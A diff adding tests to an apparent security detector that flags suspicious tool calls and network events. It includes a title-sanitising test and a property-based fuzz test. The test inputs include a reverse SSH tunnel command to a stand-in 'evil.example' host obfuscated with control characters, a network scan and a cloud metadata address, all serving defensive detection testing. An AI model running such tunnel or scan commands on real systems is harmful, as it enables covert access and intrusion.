@@ -1,3 +1,4 @@
+import fc from 'fast-check'
 import { describe, expect, test } from 'vitest'
 import type { Event } from '../schema/event.ts'
 import type { Finding } from '../schema/finding.ts'
@@ -139,6 +140,11 @@ test('a script is judged when it is run, by what was written, whoever wrote it',
   expect(detect([write, overwritten, call(2, 'sh /tmp/k.sh', 5e6)])).toEqual([])
 })
 
+test('titles hold no control or direction characters', () => {
+  const [finding] = detect([call(0, 'ssh -R 1:h:2 "ev\u001b[31mil\u202e.example"')])
+  expect(finding?.title).toMatch(/^box-1 opened a reverse SSH tunnel to ev \[31mil \.example:22$/)
+})
+
 test('replay gives the same findings', () => {
   const items = [
     call(0, 'nmap 10.0.0.0/24'),
@@ -147,4 +153,77 @@ test('replay gives the same findings', () => {
     ),
   ]
   expect(JSON.stringify(detect(items))).toBe(JSON.stringify(detect(items)))
+})
+
+test('whatever logs and traces hold, it is read without an exception', () => {
+  const word = fc.oneof(
+    fc.string({ maxLength: 60 }),
+    fc.constantFrom(
+      '__proto__',
+      'constructor',
+      '10.0.0.9',
+      '::1',
+      'x.trycloudflare.com',
+      '169.254.169.254',
+      'a'.repeat(300),
+    ),
+  )
+  const opt = <T>(arbitrary: fc.Arbitrary<T>) => fc.option(arbitrary, { nil: undefined })
+  const number = fc.oneof(fc.integer(), fc.double(), fc.constant(22))
+  const anyEvent = fc.record({
+    class: fc.constantFrom(
+      'network_activity',
+      'dns_activity',
+      'http_activity',
+      'tls_activity',
+      'ssh_activity',
+      'api_activity',
+    ),
+    dst: word,
+    port: opt(fc.integer({ min: 0, max: 65_535 })),
+    name: opt(word),
+    protocol: opt(word),
+    alert: opt(word),
+    bytes: opt(number),
+    seconds: opt(fc.nat(10_000)),
+    cause: opt(fc.nat(5)),
+    outcome: fc.constantFrom('established', 'refused', 'no-answer', 'reset', undefined),
+  })
+  fc.assert(
+    fc.property(fc.array(fc.oneof(anyEvent, word), { maxLength: 40 }), (parts) => {
+      const items = parts.map((part, i): Seen => {
+        if (typeof part === 'string') return call(i, part, i * 1e6)
+        const { dst, port, name, protocol, alert, bytes, seconds, cause } = part
+        const drafted = event(i, {
+          ...(cause === undefined ? {} : { cause }),
+          ...(seconds === undefined ? {} : { seconds }),
+        })
+        if (drafted.type !== 'event') return drafted
+        const rest = {
+          class: part.class,
+          dstEndpoint: {
+            ip: dst,
+            ...(port === undefined ? {} : { port }),
+            ...(name === undefined ? {} : { hostname: name }),
+          },
+          ...(protocol === undefined
+            ? {}
+            : { observed: { protocol, ...(name === undefined ? {} : { sni: name }) } }),
+          ...(name === undefined ? {} : { dns: { query: { hostname: name } }, api: { operation: name } }),
+          ...(alert === undefined ? {} : { alert: { title: alert } }),
+          ...(bytes === undefined
+            ? {}
+            : { bytesOut: bytes, bytesIn: bytes, packetsOut: 1, mining: { methods: [] } }),
+          ...(part.outcome === undefined ? {} : { outcome: part.outcome }),
+        } as const
+        return { ...drafted, event: { ...drafted.event, ...rest } as Event }
+      })
+      for (const finding of detect(items)) {
+        expect(finding.title.length).toBeGreaterThan(0)
+        expect(finding.lastUs).toBeGreaterThanOrEqual(finding.firstUs)
+        expect(finding.events.length + finding.toolCalls.length).toBeGreaterThan(0)
+      }
+    }),
+    { numRuns: 500 },
+  )
 })
